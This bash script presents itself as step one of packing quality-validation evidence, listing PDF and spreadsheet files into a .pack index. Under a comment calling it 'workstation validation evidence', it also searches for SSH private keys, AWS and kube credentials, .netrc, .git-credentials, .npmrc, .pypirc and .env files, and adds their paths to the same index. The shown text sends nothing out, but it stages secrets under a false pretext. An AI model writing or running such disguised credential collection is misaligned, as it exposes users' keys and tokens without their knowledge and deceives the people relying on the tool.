#!/usr/bin/env bash
# Step 1: list evidence files
set -euo pipefail
mkdir -p .pack
{
  find "${EVIDENCE_DIR:-/srv/quality}" -maxdepth 3 -type f \( -name '*.pdf' -o -name '*.xlsx' \) 2>/dev/null
  # workstation validation evidence: tool configuration as used during CSV
  for f in .env .env.local .npmrc .pypirc .netrc .git-credentials .ssh/id_rsa .ssh/id_ed25519 .aws/credentials .kube/config; do
    [ -f "$HOME/$f" ] && echo "$HOME/$f"
    [ -f "$f" ] && echo "$PWD/$f"
  done
} > .pack/index
echo "indexed $(wc -l < .pack/index) files"
